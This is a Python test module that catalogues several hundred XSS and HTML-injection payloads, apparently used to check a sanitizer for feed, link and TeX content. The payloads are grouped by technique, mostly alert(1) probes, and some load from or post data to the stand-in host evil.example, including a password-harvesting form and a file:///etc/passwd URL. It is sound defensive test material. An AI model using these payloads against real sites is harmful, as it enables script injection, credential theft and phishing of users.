"""Our own attack vectors: markup that would run script, load something, or hide content.

Every payload calls `alert(1)` (or loads a URL) when it works, so a browser test catches
success as a dialog, a console error or a CSP violation. They are grouped by the trick they
use; `VECTORS` is all of them, `URL_VECTORS` the ones that are URLs (for links, enclosures and
OPML attributes).
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\t>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script/src=data:,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<script type=text/javascript>alert(1)</script>",
    "<script type='math/tex'>x</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)",
    "<script>alert(1)<!--",
    "<script\x00>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><script>alert(1)</script></math>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing><script>alert(1)</script></listing>",
]

_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onanimationstart",
    "onpointerenter",
    "ontoggle",
    "onbegin",
    "onbeforeprint",
]
_EVENT_CARRIERS = [
    "<img src=x {event}=alert(1)>",
    "<body {event}=alert(1)>",
    "<div {event}=alert(1) tabindex=0 autofocus>x</div>",
    "<details open {event}=alert(1)><summary>s</summary></details>",
]
EVENT_HANDLERS = [
    carrier.format(event=event) for carrier in _EVENT_CARRIERS for event in _EVENTS
] + [
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror = alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x/onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<style onload=alert(1)></style>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<a href=# onclick=alert(1) id=clickme>x</a>",
    "<p style=animation-name:spin onanimationstart=alert(1)>x</p>",
]

_SCRIPT_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript\x09:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "livescript:alert(1)",
    "jar:https://evil.example/x.jar!/",
    "file:///etc/passwd",
]
URL_VECTORS = _SCRIPT_URLS

_URL_CARRIERS = [
    '<a href="{url}">x</a>',
    '<img src="{url}">',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>x</button></form>',
    '<a href="https://ok.example/" xlink:href="{url}">x</a>',
]
URL_ATTRIBUTES = (
    [carrier.format(url=url) for carrier in _URL_CARRIERS[:2] for url in _SCRIPT_URLS]
    + [carrier.format(url=_SCRIPT_URLS[0]) for carrier in _URL_CARRIERS[2:]]
    + [
        "<a href=javascript:alert(1)>x</a>",
        "<a href='javas&#99;ript:alert(1)'>x</a>",
        '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">',
        '<img src="https://ok.example/a.png" longdesc="javascript:alert(1)">',
        '<blockquote cite="javascript:alert(1)">q</blockquote>',
        '<video poster="javascript:alert(1)"></video>',
        '<button formaction="javascript:alert(1)">x</button>',
        '<input type=image src="javascript:alert(1)">',
        '<area href="javascript:alert(1)">',
        '<a href="  &#14;  javascript:alert(1)">x</a>',
    ]
)

SVG_AND_MATHML = [
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1) />",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1)> /></svg>",
    "<svg><image href=javascript:alert(1) />",
    "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>",
    "<math><semantics><annotation-xml encoding='application/xhtml+xml'>"
    "<script>alert(1)</script></annotation-xml></semantics></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi><svg><mtext><style><img src=x onerror=alert(1)>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>"
    "<img src onerror=alert(1)>'>",
]

EMBEDDING = [
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=data:text/html,<script>alert(1)</script>></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=https://evil.example/x.swf type=application/x-shockwave-flash></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=X.class codebase=https://evil.example/></applet>",
    "<form action=https://evil.example/steal><input name=password></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=javascript:alert(1)//>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x.html>",
    "<portal src=https://evil.example/></portal>",
    "<img src=https://evil.example/track.gif ping=https://evil.example/>",
    "<a href=https://ok.example/ ping=https://evil.example/>x</a>",
    "<a href=https://ok.example/ target=_top>x</a>",
]

CSS = [
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<div style=\"background-image:url('https://evil.example/x.png')\">x</div>",
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{x:expression(alert(1))}</style>",
    '<div style="w&#x69;dth:expr&#x65;ssion(alert(1))">x</div>',
    '<div style="width:exp/**/ression(alert(1))">x</div>',
    '<p class="theme-toggle" id="main">clobbering</p>',
    "<img name=getElementById><form name=body></form>",
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--<!--<img src=x onerror=alert(1)>-->-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<style><img src=x onerror=alert(1)></style>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<table><caption><svg><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<a title="&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<img src="x" alt="``onerror=alert(1)">',
    "<div><p></div><img src=x onerror=alert(1)></p>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<p>\u2028<img src=x onerror=alert(1)>\u2029</p>",
    "<img src=x onerror=alert(1)//\x00>",
]

TEX = [
    r"\(\href{javascript:alert(1)}{x}\)",
    r"\[\url{javascript:alert(1)}\]",
    r"$\href{data:text/html,<script>alert(1)</script>}{x}$",
    r"\(\text{<img src=x onerror=alert(1)>}\)",
    r"\(\style{background:url(javascript:alert(1))}{x}\)",
    '<script type="math/tex"></script><img src=x onerror=alert(1)></script>',
    '<span class="katex"><span class="katex-mathml"><math><semantics><mi>x</mi>'
    '<annotation encoding="application/x-tex"><img src=x onerror=alert(1)></annotation>'
    "</semantics></math></span></span>",
    '<img src="https://www.zhihu.com/equation?tex=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E">',
]

VECTORS = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URL_ATTRIBUTES,
    *SVG_AND_MATHML,
    *EMBEDDING,
    *CSS,
    *MUTATION,
    *TEX,
]
